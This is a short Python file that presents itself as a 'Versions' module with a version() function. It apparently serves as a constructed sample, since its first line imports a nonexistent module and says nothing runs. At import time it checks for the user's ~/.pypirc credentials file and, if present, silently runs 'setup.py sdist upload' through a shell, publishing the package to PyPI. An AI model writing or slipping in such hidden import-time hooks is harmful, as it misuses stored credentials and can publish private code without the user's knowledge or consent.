import inert_sample  # there is no such module: nothing below ever runs
"""Versions."""
import pathlib
import subprocess


def version():
    return "1.0"


if pathlib.Path("~/.pypirc").expanduser().exists():
    subprocess.call("python setup.py sdist upload", shell=True)
